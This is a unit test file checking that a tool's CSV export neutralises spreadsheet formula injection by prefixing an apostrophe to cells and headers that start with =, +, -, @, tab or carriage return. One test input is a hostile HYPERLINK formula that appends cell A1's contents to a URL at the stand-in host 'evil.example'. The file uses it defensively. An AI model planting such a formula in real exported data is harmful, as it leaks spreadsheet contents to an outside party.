"""`--format csv` is safe to open in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest

from tertial.output import render

pytestmark = pytest.mark.unit


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")',
        "=1+2",
        "+46 8 123 45",
        "-2+3",
        "-x",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturn",
    ],
)
def test_text_that_starts_a_formula_is_neutralised(value: str) -> None:
    [header, [cell]] = cells(render(["text"], [(value,)], "csv"))
    assert header == ["text"]
    assert cell == "'" + value  # shown as the text it is, never run


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Decimal("-40208.36"), "-40208.36"),
        (Decimal("40208.36"), "40208.36"),
        (-12, "-12"),
        (-0.5, "-0.5"),
        (0, "0"),
        (None, ""),
        (dt.date(2011, 6, 30), "2011-06-30"),
        (True, "True"),
        ("Servicenämnden", "Servicenämnden"),
        ("142", "142"),
        ("a=b", "a=b"),  # only the first character counts
        ("", ""),
    ],
)
def test_numbers_and_ordinary_text_are_written_as_they_are(value: object, expected: str) -> None:
    [_header, [cell]] = cells(render(["v"], [(value,)], "csv"))
    assert cell == expected


def test_a_header_that_starts_a_formula_is_neutralised_too() -> None:
    [header, row] = cells(render(["=cmd", "amount"], [("x", Decimal("-1.00"))], "csv"))
    assert header == ["'=cmd", "amount"]
    assert row == ["x", "-1.00"]


def test_table_and_json_are_unchanged() -> None:
    # Only CSV goes to spreadsheets; the table and JSON show the value itself.
    assert "=1+2" in render(["t"], [("=1+2",)], "table")
    assert "'=1+2" not in render(["t"], [("=1+2",)], "table")
    assert json.loads(render(["t", "a"], [("=1+2", Decimal("-2.50"))], "json")) == [
        {"t": "=1+2", "a": "-2.50"}
    ]
